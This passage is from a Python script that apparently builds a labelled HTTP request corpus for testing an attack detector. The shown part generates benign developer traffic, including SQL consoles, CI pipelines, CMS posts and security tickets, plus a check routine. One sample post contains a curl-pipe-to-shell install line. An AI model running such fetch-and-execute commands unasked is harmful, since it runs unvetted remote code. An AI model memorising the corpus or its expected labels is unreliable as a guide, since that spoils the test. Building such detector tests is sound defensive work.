          ctype=JSON_CT, ua=g.tool())
    # pgAdmin query tool
    H = "pgadmin.example.com"
    hs = [("X-pgA-CSRFToken", g.alnum(40) + "." + g.alnum(20)), ("Cookie", f"pga4_session={g.uuid()}!{g.alnum(44)}=")]
    for sql in SQLS:
        g.add(D, "pgadmin-query", "POST", f"/sqleditor/query_tool/start/{g.r.randrange(10**6, 10**7)}", H, hs,
              body=jd({"sql": sql, "explain_plan": None}), ctype=JSON_CT, accept="application/json")
    # BI saved questions (Metabase / Superset)
    g.add(D, "metabase-native", "POST", "/api/card", "bi.example.com", [("X-Metabase-Session", g.uuid())],
          body=jd({"name": "Churned customers", "display": "table", "visualization_settings": {}, "collection_id": 4,
                   "dataset_query": {"type": "native", "database": 2, "native": {"query": SQLS[2] + "\n-- excludes test accounts\n[[AND u.email NOT LIKE {{domain}}]]",
                                     "template-tags": {"domain": {"name": "domain", "display-name": "Domain", "type": "text", "default": "%@example.com"}}}}}),
          ctype=JSON_CT, accept="application/json")
    g.add(D, "superset-sqllab", "POST", "/api/v1/sqllab/execute/", "bi.example.com", [("X-CSRFToken", g.alnum(40))],
          body=jd({"database_id": 1, "schema": "public", "sql": SQLS[7], "runAsync": False, "select_as_cta": False, "queryLimit": 1000}),
          ctype=JSON_CT, accept="application/json")
    g.add(D, "superset-sqllab", "POST", "/api/v1/sqllab/execute/", "bi.example.com", [("X-CSRFToken", g.alnum(40))],
          body=jd({"database_id": 1, "schema": "analytics", "sql": "SELECT * FROM information_schema.columns WHERE table_name = 'orders' ORDER BY ordinal_position",
                   "runAsync": False, "queryLimit": 100}), ctype=JSON_CT, accept="application/json")
    # Jenkins pipeline definitions
    H = "jenkins.example.com"
    for script in GROOVY_PIPELINES:
        cfg = {"description": "Shop build", "definition": {"script": script, "sandbox": True, "stapler-class": "org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition"}}
        g.add(D, "jenkins-pipeline", "POST", "/job/shop-" + g.alnum(4).lower() + "/configSubmit", H,
              [("Jenkins-Crumb", g.hexs(64)), ("Cookie", "JSESSIONID.%s=node0%s.node0" % (g.hexs(8), g.alnum(24).lower()))],
              body=form([("description", "Shop build"), ("_.script", script), ("_.sandbox", "on"), ("Jenkins-Crumb", g.hexs(64)),
                         ("json", jd(cfg)), ("Submit", "Save")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(D, "jenkins-pipeline", "POST", "/pipeline-model-converter/validate", H, [("Jenkins-Crumb", g.hexs(64))],
          body=form([("jenkinsfile", GROOVY_PIPELINES[0])]), ctype=FORM, accept="application/json")
    # GitLab CI / Argo CD / ConfigMap edits
    g.add(D, "gitlab-ci", "POST", "/api/v4/projects/42/repository/commits", "gitlab.example.com", [("PRIVATE-TOKEN", "glpat-" + g.alnum(20))],
          body=jd({"branch": "main", "commit_message": "ci: cache node_modules", "actions": [{"action": "update", "file_path": ".gitlab-ci.yml",
                   "content": "stages: [test, build]\n\ntest:\n  image: node:22\n  cache:\n    paths: [node_modules/]\n  script:\n    - npm ci\n    - npm test\n\nbuild:\n  stage: build\n  script:\n    - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA .\n    - docker push $CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA\n  only: [main]\n"}]}),
          ctype=JSON_CT, ua=g.tool(), accept="application/json")
    g.add(D, "k8s-configmap", "PATCH", "/api/v1/namespaces/prod/configmaps/backup-script?fieldManager=kubectl-edit", "kubernetes.default.svc",
          [("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6" + g.alnum(60))],
          body=jd({"data": {"backup.sh": BACKUP_SH}}), ctype="application/merge-patch+json", ua="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", accept="application/json")
    g.add(D, "argocd-app", "POST", "/api/v1/applications", "argocd.example.com", [("Cookie", "argocd.token=" + g.alnum(100))],
          body=jd({"metadata": {"name": "shop", "namespace": "argocd"}, "spec": {"project": "default", "source": {"repoURL": "https://git.example.com/platform/shop.git",
                   "path": "deploy/overlays/prod", "targetRevision": "main", "kustomize": {"images": ["registry.example.com/shop:2.14.1"]}},
                   "destination": {"server": "https://kubernetes.default.svc", "namespace": "prod"}, "syncPolicy": {"automated": {"prune": True, "selfHeal": True}}}}),
          ctype=JSON_CT, accept="application/json")
    # n8n Code nodes
    H = "n8n.example.com"
    for js in JS_CODE_NODES:
        wf = {"name": "Code step", "nodes": [{"parameters": {"jsCode": js}, "name": "Code", "type": "n8n-nodes-base.code", "typeVersion": 2, "position": [460, 300]}],
              "connections": {}, "settings": {}}
        g.add(D, "n8n-code", "PATCH", "/rest/workflows/" + g.alnum(16), H, [("Cookie", "n8n-auth=" + g.alnum(60))], body=jd(wf), ctype=JSON_CT,
              accept="application/json, text/plain, */*")
    # Langflow custom components
    H = "langflow.example.com"
    for code in LANGFLOW_COMPONENTS:
        g.add(D, "langflow-component", "POST", "/api/v1/validate/code", H, [("Authorization", "Bearer " + g.alnum(60))], body=jd({"code": code}),
              ctype=JSON_CT, accept="application/json")
    g.add(D, "langflow-component", "POST", "/api/v1/custom_component", H, [("Authorization", "Bearer " + g.alnum(60))],
          body=jd({"code": LANGFLOW_COMPONENTS[0], "frontend_node": None}), ctype=JSON_CT, accept="application/json")
    # HTML e-mail templates (Roundcube compose, Magento transactional templates)
    H = "mail.example.com"
    for title in ["Your order has shipped", "Welcome to Example Shop", "Password changed"]:
        g.add(D, "roundcube-html", "POST", "/?_task=mail&_unlock=loading" + str(g.r.randrange(10**12, 10**13)) + "&_framed=1", H,
              [("Cookie", f"roundcube_sessid={g.alnum(26)}")],
              body=form([("_token", g.alnum(32)), ("_task", "mail"), ("_action", "send"), ("_from", "1"), ("_to", "marketing@example.com"),
                         ("_subject", "Template review: " + title), ("_is_html", "1"), ("_message", email_template(g, title))]), ctype=FORM)
    H = "shop.example.com"
    for title in ["Your order has shipped", "Back in stock"]:
        g.add(D, "magento-email-template", "POST", "/admin/admin/email_template/save/", H, [("Cookie", "admin=" + g.alnum(26))],
              body=form([("form_key", g.alnum(16)), ("template_code", title), ("template_subject", "{{trans \"%store_name: %title\" store_name=$store.frontend_name title=\"" + title + "\"}}"),
                         ("template_text", "{{template config_path=\"design/email/header_template\"}}" + email_template(g, title) +
                          "{{layout handle=\"sales_email_order_items\" order_id=$order_id area=\"frontend\"}}{{template config_path=\"design/email/footer_template\"}}"),
                         ("template_styles", ".btn{background:#1979c3}")]), ctype=FORM, accept=HTML_ACCEPT)
    for ident, content in [("home-promo", "<div class=\"promo\">{{widget type=\"Magento\\CatalogWidget\\Block\\Product\\ProductsList\" products_count=\"8\" template=\"Magento_CatalogWidget::product/widget/content/grid.phtml\" conditions_encoded=\"^[`1`:^[`type`:`Magento||CatalogWidget||Model||Rule||Condition||Combine`,`aggregator`:`all`,`value`:`1`^]^]\"}}</div>"),
                           ("footer-links", "<ul class=\"footer links\"><li><a href=\"{{store url='customer-service'}}\">Customer service</a></li><li><a href=\"{{store direct_url='privacy-policy-cookie-restriction-mode'}}\">Privacy</a></li></ul>")]:
        g.add(D, "magento-cms-block", "POST", "/admin/cms/block/save/", H, [("Cookie", "admin=" + g.alnum(26))],
              body=form([("form_key", g.alnum(16)), ("title", ident), ("identifier", ident), ("store_id[0]", "0"), ("is_active", "1"), ("content", content)]),
              ctype=FORM, accept=HTML_ACCEPT)
    # WordPress posts with code samples
    H = "blog.example.com"
    ck = f"wordpress_logged_in_{g.hexs(32)}=dev%7C{g.r.randrange(10**9)}%7C{g.alnum(43)}"
    wp_posts = [
        ("Safer queries in custom plugins", "<p>Use <code>$wpdb-&gt;prepare()</code> for every query that includes user input:</p>\n<pre class=\"wp-block-code\"><code class=\"language-php\">$rows = $wpdb-&gt;get_results(\n  $wpdb-&gt;prepare(\"SELECT ID, post_title FROM {$wpdb-&gt;posts} WHERE post_author = %d AND post_status = %s\", $author_id, 'publish')\n);</code></pre>"),
        ("Fetching the REST API from a block", "<pre class=\"wp-block-code\"><code class=\"language-js\">const res = await fetch('/wp-json/wp/v2/posts?per_page=5', { headers: { 'X-WP-Nonce': wpApiSettings.nonce } });\nconst posts = await res.json();\ndocument.querySelector('#latest').innerHTML = posts.map(p =&gt; `&lt;li&gt;${p.title.rendered}&lt;/li&gt;`).join('');</code></pre>"),
        ("Installing our CLI", "<p>On macOS or Linux:</p><pre class=\"wp-block-code\"><code>curl -fsSL https://get.example.com/install.sh | sh\nexample-cli login\nexample-cli deploy --env staging</code></pre><p>On Windows use <code>winget install Example.CLI</code>.</p>"),
        ("Escaping output in themes", "<p>Always escape late: <code>echo esc_html( $title );</code> and <code>echo esc_url( $link );</code>. For attributes use <code>esc_attr()</code>. Never print <code>$_GET</code> values directly.</p><pre class=\"wp-block-code\"><code class=\"language-php\">&lt;a href=\"&lt;?php echo esc_url( get_permalink() ); ?&gt;\"&gt;&lt;?php the_title(); ?&gt;&lt;/a&gt;</code></pre>"),
        ("Cron jobs with WP-CLI", "<pre class=\"wp-block-code\"><code class=\"language-bash\"># run due events every 5 minutes\n*/5 * * * * cd /var/www/html &amp;&amp; wp cron event run --due-now --quiet\n# weekly DB optimise\n0 3 * * 0 wp db optimize --path=/var/www/html</code></pre>"),
        ("What the 2025 plugin advisories mean for you", "<p>Several popular plugins shipped fixes this spring for privilege-escalation and SQL injection bugs. Our checklist:</p><ol><li>Enable auto-updates for security releases</li><li>Remove plugins you don't use</li><li>Review administrator accounts monthly</li><li>Put the admin area behind SSO</li></ol>"),
        ("Regex cheatsheet", "<pre class=\"wp-block-code\"><code>^\\d{4}-\\d{2}-\\d{2}$        # ISO date\n^[A-Z]{2}\\d{2}[A-Z0-9]{11,30}$ # IBAN (rough)\n(?i)\\b(select|insert|update)\\b  # SQL verbs, for log grepping</code></pre>"),
        ("Template tags in block themes", "<pre class=\"wp-block-code\"><code class=\"language-html\">&lt;!-- wp:query {\"queryId\":1,\"query\":{\"perPage\":3,\"postType\":\"post\"}} --&gt;\n&lt;div class=\"wp-block-query\"&gt;&lt;!-- wp:post-template --&gt;&lt;!-- wp:post-title {\"isLink\":true} /--&gt;&lt;!-- /wp:post-template --&gt;&lt;/div&gt;\n&lt;!-- /wp:query --&gt;</code></pre>"),
    ]
    for title, content in wp_posts:
        g.add(D, "wordpress-post", "POST", f"/wp-json/wp/v2/posts/{g.r.randrange(100, 999)}?_locale=user", H, [("Cookie", ck), ("X-WP-Nonce", g.hexs(10))],
              body=jd({"title": title, "content": content, "status": "draft"}), ctype=JSON_CT, accept="application/json")
    # Craft CMS entries with Twig / code in a code field
    H = "cms.example.com"
    for title, code in [("Twig partial for product cards", "{% for entry in craft.entries().section('products').limit(6).all() %}\n  <article class=\"card\">\n    <h3>{{ entry.title }}</h3>\n    {% set img = entry.photo.one() %}\n    {% if img %}<img src=\"{{ img.getUrl('thumb') }}\" alt=\"{{ img.alt }}\">{% endif %}\n    <p>{{ entry.summary|striptags|slice(0, 120) }}…</p>\n  </article>\n{% endfor %}"),
                        ("Environment setup", "# .env.example\nCRAFT_ENVIRONMENT=dev\nCRAFT_DB_DRIVER=pgsql\nCRAFT_DB_SERVER=127.0.0.1\nCRAFT_DB_PORT=5432\nCRAFT_SECURITY_KEY=change-me\nPRIMARY_SITE_URL=http://localhost:8080/"),
                        ("Image transforms in templates", "{% set transform = { width: 600, height: 400, mode: 'crop', format: 'webp' } %}\n<img src=\"{{ asset.getUrl(transform) }}\" srcset=\"{{ asset.getSrcset(['1x', '2x'], transform) }}\">")]:
        g.add(D, "craftcms-entry", "POST", "/index.php?p=admin/actions/entries/save-entry", H, [("Cookie", "CraftSessionId=" + g.alnum(26))],
              body=form([("CRAFT_CSRF_TOKEN", g.alnum(40)), ("sectionId", "5"), ("title", title), ("fields[codeSample]", code), ("fields[language]", "twig"), ("enabled", "1")]),
              ctype=FORM, accept=HTML_ACCEPT)
    # Camel / Spring configuration edits
    H = "camel.example.com"
    g.add(D, "camel-route", "PUT", "/api/admin/routes/order-export", H, [("Authorization", "Bearer " + g.alnum(40))],
          body=('<routes xmlns="http://camel.apache.org/schema/spring"><route id="order-export"><from uri="timer:export?period=3600000"/>'
                '<to uri="sql:SELECT id, total FROM orders WHERE exported = false?dataSource=#shopDs"/><marshal><csv/></marshal>'
                '<to uri="file:/data/exports?fileName=orders-${date:now:yyyyMMddHH}.csv"/><setHeader name="CamelFileName"><simple>${header.CamelFileName}.done</simple></setHeader></route></routes>'),
          ctype="application/xml", ua=g.tool())
    g.add("benign", "spring-config", "POST", "/actuator/refresh", "config.example.com", body="", ctype=JSON_CT, ua=g.tool())
    g.add(D, "spring-config", "PUT", "/api/config/orders-service/prod", "config.example.com", [("Authorization", "Bearer " + g.alnum(40))],
          body="spring:\n  datasource:\n    url: jdbc:postgresql://db.internal:5432/orders\n    hikari.maximum-pool-size: 20\nmanagement:\n  endpoints.web.exposure.include: health,info,prometheus\nlogging.level.org.hibernate.SQL: WARN\n",
          ctype="application/x-yaml", ua=g.tool())
    # security-topic writing without payloads
    H = "jira.example.com"
    for summary, desc in [
        ("Upgrade Next.js to 15.2.4 (CVE-2025-29927)", "The middleware authorization bypass affects our marketing site. Plan: bump next, redeploy, and strip the x-middleware-subrequest header in the ingress as defence in depth. Test plan: log in/out, check /admin redirect."),
        ("Tomcat: set readonly=true on DefaultServlet", "Partial PUT (CVE-2025-24813) requires writes to be enabled. We confirmed readonly is true in prod; staging had it false. Fix in helm values and add a conftest policy."),
        ("Quarterly pentest findings", "1. Verbose error pages on /api (low)\n2. Missing rate limit on /login (medium)\n3. Session cookie without SameSite (low)\nAll fixed in sprint 42 except #2."),
        ("WAF false positives on the XWiki editor", "Editors saving pages with code blocks (bash, SQL) get 403s. Please add an exception for /xwiki/bin/save/* for authenticated users, with body inspection still on for anonymous traffic."),
        ("Rotate IMDS settings", "Enforce IMDSv2 (http_tokens = required) and hop limit 1 on all node groups so pods cannot reach instance credentials. Use IRSA / pod identity instead."),
    ]:
        g.add(D, "jira-issue", "POST", "/rest/api/2/issue", H, [("Authorization", "Bearer " + g.alnum(44))],
              body=jd({"fields": {"project": {"key": "OPS"}, "summary": summary, "description": desc, "issuetype": {"name": "Task"}, "labels": ["security", "2025"]}}),
              ctype=JSON_CT, ua=g.tool(), accept="application/json")
    g.add(D, "xwiki-page", "POST", "/xwiki/bin/save/Security/Glossary", "wiki.example.com", [ck],
          body=form([("form_token", g.alnum(22)), ("title", "Glossary"),
                     ("content", "; SQL injection\n: Untrusted input changes the structure of a SQL statement. Prevent with bound parameters.\n"
                                 "; Cross-site scripting\n: Untrusted input is rendered as HTML/JS in another user's browser. Prevent with contextual output encoding and a CSP.\n"
                                 "; SSRF\n: The server is tricked into requesting an internal URL, e.g. the cloud metadata endpoint. Prevent with egress allow-lists.\n"
                                 "; Deserialisation\n: Untrusted bytes are turned into objects whose methods run during loading."),
                     ("syntaxId", "xwiki/2.1")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(D, "mattermost-post", "POST", "/api/v4/posts", "chat.example.com", [("Authorization", "Bearer " + g.alnum(26))],
          body=jd({"channel_id": g.alnum(26).lower(), "message": "Heads-up: to debug the slow query run\n```sql\nSELECT * FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 5;\n```\nand post the output here. Don't paste `.env` files :)"}),
          ctype=JSON_CT, ua=g.tool(), accept="application/json")
    g.add(D, "mattermost-post", "POST", "/api/v4/posts", "chat.example.com", [("Authorization", "Bearer " + g.alnum(26))],
          body=jd({"channel_id": g.alnum(26).lower(), "message": "Quick fix for the stuck pod:\n```bash\nkubectl -n prod delete pod -l app=worker --wait=false\nkubectl -n prod logs deploy/worker --since=10m | grep -i error | head\n```"}),
          ctype=JSON_CT, ua=g.tool(), accept="application/json")


BENIGN = [ben_nextjs, ben_tomcat, ben_sap, ben_gateways, ben_files, ben_cms, ben_roundcube, ben_magento, ben_dotnet,
          ben_pbx_erp, ben_python_tools, ben_java_products, ben_n8n, ben_wordpress, ben_grafana, ben_k8s, ben_misc,
          ben_volume]


def build(mode):
    if mode == "attacks":
        g = Gen(SEED_ATTACKS)
        for f in ATTACKS:
            f(g)
    elif mode == "benign":
        g = Gen(SEED_BENIGN)
        for f in BENIGN:
            f(g)
        dev_content(g)
    else:
        raise SystemExit(f"unknown mode {mode!r}")
    return g.out


def check():
    """Validate both modes; print counts per category."""
    import collections
    ok = True
    for mode in ("attacks", "benign"):
        lines = [json.dumps(x, ensure_ascii=False) for x in build(mode)]
        again = [json.dumps(x, ensure_ascii=False) for x in build(mode)]
        if lines != again:
            print(f"{mode}: NOT deterministic"); ok = False
        ids, cats = set(), collections.Counter()
        for s in lines:
            o = json.loads(s)
            if o["id"] in ids:
                print("duplicate id", o["id"]); ok = False
            ids.add(o["id"])
            cats[o["category"]] += 1
            want = "pass" if mode == "benign" else "detect"
            if o["expect"] != want:
                print("bad expect", o["id"]); ok = False
            if "raw_b64" in o:
                raw = base64.b64decode(o["raw_b64"])
                if not raw.split(b" ", 1)[0].isalpha():
                    print("bad raw", o["id"]); ok = False
                continue
            hs = {k.lower(): v for k, v in o["headers"]}
            if "host" not in hs or "user-agent" not in hs:
                print("missing host/ua", o["id"]); ok = False
            if "body" in o:
                if int(hs.get("content-length", -1)) != len(o["body"].encode("utf-8")):
                    print("bad content-length", o["id"]); ok = False
                if "content-type" not in hs:
                    print("missing content-type", o["id"]); ok = False
        print(f"{mode}: {len(lines)} lines")
        for c, n in sorted(cats.items()):
            print(f"  {c:12s} {n}")
    return ok


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign", "check"):
        sys.stderr.write("usage: corpus-recent.py attacks|benign|check\n")
        return 2
    if argv[1] == "check":
        return 0 if check() else 1
    out = sys.stdout
    for line in build(argv[1]):
        out.write(json.dumps(line, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
